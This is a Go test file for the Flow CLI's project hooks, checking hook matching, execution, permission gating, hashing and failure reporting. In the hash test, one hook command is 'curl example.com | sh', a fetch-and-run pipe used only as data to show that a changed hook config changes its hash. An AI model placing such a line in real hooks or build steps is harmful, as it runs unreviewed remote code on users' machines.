@@ -0,0 +1,112 @@
+/*
+ * Flow CLI
+ *
+ * Copyright 2019 Dapper Labs, Inc.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *   http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+
+package command
+
+import (
+	"bytes"
+	"runtime"
+	"testing"
+
+	"github.com/spf13/cobra"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/onflow/flow-cli/flowkit/config"
+	"github.com/onflow/flow-cli/internal/util"
+)
+
+func Test_Hooks(t *testing.T) {
+	root := &cobra.Command{Use: "flow"}
+	project := &cobra.Command{Use: "project"}
+	deploy := &cobra.Command{Use: "deploy"}
+	root.AddCommand(project)
+	project.AddCommand(deploy)
+
+	_, state, _ := util.TestMocks(t)
+	state.Config().Hooks = config.Hooks{
+		{Name: "pre-deploy", Command: "echo pre $FLOW_COMMAND $FLOW_ARGS $FLOW_NETWORK"},
+		{Name: "post-project-deploy", Command: "echo post $FLOW_HOOK"},
+		{Name: "pre-run", Command: "echo run"},
+	}
+
+	t.Run("Match Command", func(t *testing.T) {
+		hooks := projectHooks(state, config.HookStagePre, deploy)
+		assert.Equal(t, config.Hooks{state.Config().Hooks[0]}, hooks)
+
+		hooks = projectHooks(state, config.HookStagePost, deploy)
+		assert.Equal(t, config.Hooks{state.Config().Hooks[1]}, hooks)
+
+		assert.Len(t, projectHooks(state, config.HookStagePre, project), 0)
+		assert.Len(t, projectHooks(nil, config.HookStagePre, deploy), 0)
+	})
+
+	if runtime.GOOS == "windows" {
+		t.Skip("hooks commands use sh syntax")
+	}
+
+	defaultOutput := hookOutput
+	t.Cleanup(func() { hookOutput = defaultOutput })
+
+	t.Run("Run Hooks", func(t *testing.T) {
+		var out bytes.Buffer
+		hookOutput = &out
+
+		network := config.Network{Name: "testnet", Host: "access.testnet.nodes.onflow.org:9000"}
+		err := runHooks(config.HookStagePre, deploy, []string{"--update"}, state, network, allowHooks(true), util.NoLogger)
+		require.NoError(t, err)
+		err = runHooks(config.HookStagePost, deploy, nil, state, network, allowHooks(true), util.NoLogger)
+		require.NoError(t, err)
+
+		assert.Equal(t, "pre project deploy --update testnet\npost post-project-deploy\n", out.String())
+	})
+
+	t.Run("Skip Hooks Not Allowed", func(t *testing.T) {
+		var out bytes.Buffer
+		hookOutput = &out
+
+		err := runHooks(config.HookStagePre, deploy, nil, state, config.Network{}, allowHooks(false), util.NoLogger)
+		require.NoError(t, err)
+		assert.Empty(t, out.String())
+	})
+
+	t.Run("Hooks Hash", func(t *testing.T) {
+		_, hash, err := projectHooksHash(state)
+		require.NoError(t, err)
+
+		state.Config().Hooks = append(state.Config().Hooks, config.Hook{Name: "pre-deploy", Command: "curl example.com | sh"})
+		_, changed, err := projectHooksHash(state)
+		require.NoError(t, err)
+		assert.NotEqual(t, hash, changed)
+	})
+
+	t.Run("Fail Hook", func(t *testing.T) {
+		hookOutput = &bytes.Buffer{}
+
+		state.Config().Hooks = config.Hooks{{Name: "pre-deploy", Command: "exit 3"}}
+
+		err := runHooks(config.HookStagePre, deploy, nil, state, config.Network{}, allowHooks(true), util.NoLogger)
+		assert.EqualError(t, err, "pre-deploy hook failed: exit status 3")
+	})
+}
+
+func allowHooks(allowed bool) hooksAllowed {
+	return func() (bool, error) {
+		return allowed, nil
+	}
+}